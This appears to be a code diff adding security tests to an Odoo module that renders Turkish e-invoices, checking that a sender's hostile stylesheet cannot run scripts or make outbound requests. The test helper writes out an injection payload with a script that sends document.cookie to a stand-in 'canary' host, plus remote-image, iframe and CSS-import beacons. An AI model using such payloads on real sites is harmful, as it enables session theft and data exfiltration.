@@ -2,9 +2,13 @@
 GİB printout through Odoo's report engine and wkhtmltopdf with a Karekod that decodes, and the
 e-Arşiv PDF e-mailed when the company delivers e-Arşiv itself."""
 
+import io
+import threading
 from dataclasses import replace
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import lxml.html
+from pypdf import PdfReader
 
 from odoo.exceptions import UserError
 from odoo.tests import tagged
@@ -29,6 +33,39 @@ SENDER_XSLT = (
     b"</xsl:template></xsl:stylesheet>"
 )
 REPORT = "l10n_tr_edoc.action_report_l10n_tr_edoc_document"
+
+
+def _hostile_printout_xslt(canary):
+    """A sender's page that tries every way out: unescaped markup, scripts, remote images, CSS and
+    frames all pointing at ``canary``, and a script that would stamp the page if it ran."""
+    raw = (
+        f'<script>document.write("SCRIPT-RAN");fetch("{canary}/fetch?c="+document.cookie);'
+        f'new Image().src="{canary}/beacon";</script>'
+        f'<img src="{canary}/img"/><iframe src="{canary}/frame"></iframe>'
+        f'<link rel="stylesheet" href="{canary}/css"/><object data="{canary}/object"></object>'
+        f"<style>@import url({canary}/import.css); body{{background:url({canary}/bg)}}</style>"
+        f"<p style=\"background-image:image-set('{canary}/set' 1x)\">styled</p>"
+    )
+    escaped = raw.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    return (
+        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
+        '<xsl:template match="/"><html><body><h1>SENDER-LAYOUT</h1>'
+        f'<xsl:text disable-output-escaping="yes">{escaped}</xsl:text></body></html>'
+        f'<img src="{canary}/second-element"/></xsl:template></xsl:stylesheet>'
+    ).encode()
+
+
+class _Canary(BaseHTTPRequestHandler):
+    def _record(self):
+        self.server.seen.append(f"{self.command} {self.path}")
+        self.send_response(200)
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    do_GET = do_POST = do_CONNECT = do_HEAD = _record
+
+    def log_message(self, *args):
+        """Quiet: what arrived is asserted, not logged."""
 
 
 @tagged("post_install", "-at_install", "post_install_l10n")
@@ -182,3 +219,70 @@ class TestL10nTrEdocRender(L10nTrEdocCase):
         self.assertEqual(mail.attachment_ids.mimetype, "application/pdf")
         pages = pdf_pages(mail.attachment_ids.raw)
         self.assertEqual(decode_qr(pages[0]), qr_text(qr_payload(invoice)))
+
+    def _canary(self):
+        server = ThreadingHTTPServer(("127.0.0.1", 0), _Canary)
+        server.seen = []
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        self.addCleanup(thread.join)
+        self.addCleanup(server.server_close)
+        self.addCleanup(server.shutdown)
+        return server, f"http://127.0.0.1:{server.server_address[1]}"
+
+    def test_printout_of_hostile_received_invoice_runs_no_script_and_makes_no_request(self):
+        """The sender's page is printed by the locked-down wkhtmltopdf run, not Odoo's report engine:
+        nothing it carries runs, and a canary on 127.0.0.1 hears nothing."""
+        server, canary = self._canary()
+        invoice = factories.invoice(
+            xslt=Attachment(content=_hostile_printout_xslt(canary), filename="evil.xslt")
+        )
+        document = self._document(serialize(build_invoice(invoice)), direction="in", uuid=invoice.uuid)
+        self.assertEqual(document.render_template, "embedded")
+        pdf = self._pdf(document)
+        text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
+        self.assertIn("SENDER-LAYOUT", text, "the sender's layout is what is printed")
+        self.assertNotIn("SCRIPT-RAN", text)
+        self.assertEqual(server.seen, [])
+        self.assertFalse(document.pdf_attachment_id, "a received document's printout is not kept")
+        html = document.preview_html
+        for marker in ("<script", "<iframe", "<object", "<link", canary, "url(", "image-set"):
+            self.assertNotIn(marker, html)
+
+    def test_report_engine_never_serves_sender_markup(self):
+        """``/report/html`` and Odoo's wkhtmltopdf run get our template only, so no session-carrying
+        renderer ever sees a sender's markup."""
+        _server, canary = self._canary()
+        invoice = factories.invoice(
+            xslt=Attachment(content=_hostile_printout_xslt(canary), filename="evil.xslt")
+        )
+        document = self._document(serialize(build_invoice(invoice)), direction="in", uuid=invoice.uuid)
+        html, _type = self.env["ir.actions.report"]._render_qweb_html(REPORT, document.ids)
+        html = html.decode()
+        self.assertNotIn("SENDER-LAYOUT", html)
+        self.assertNotIn(canary, html)
+        self.assertIn(invoice.uuid, html)
+
+    def test_sender_markup_is_only_shown_in_a_sandboxed_frame(self):
+        for model in ("l10n_tr_edoc.document", "l10n_tr_edoc.preview"):
+            arch = self.env[model].get_view(view_type="form")["arch"]
+            fields = lxml.html.fromstring(arch).xpath("//field[@name='preview_html']")
+            self.assertTrue(fields)
+            for field in fields:
+                self.assertIn("'sandboxedPreview': true", field.get("options"))
+
+    def test_runaway_stylesheet_ends_in_our_template_with_a_translatable_reason(self):
+        endless = (
+            b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
+            b'<xsl:template match="/"><html><body><xsl:call-template name="t"/></body></html></xsl:template>'
+            b'<xsl:template name="t"><xsl:call-template name="t"/></xsl:template></xsl:stylesheet>'
+        )
+        invoice = factories.invoice(xslt=Attachment(content=endless, filename="loop.xslt"))
+        document = self._document(serialize(build_invoice(invoice)), direction="in", uuid=invoice.uuid)
+        self.assertEqual(document.render_template, "ours")
+        self.assertIn("could not be rendered", document.render_note)
+        self.assertEqual(qr_from_html(document.preview_html), qr_text(qr_payload(invoice)))
+        self.env["res.lang"]._activate_lang("tr_TR")
+        tr = document.with_context(lang="tr_TR")
+        tr.invalidate_recordset(["render_note"])
+        self.assertIn("Göndericinin stil şablonu", tr.render_note)
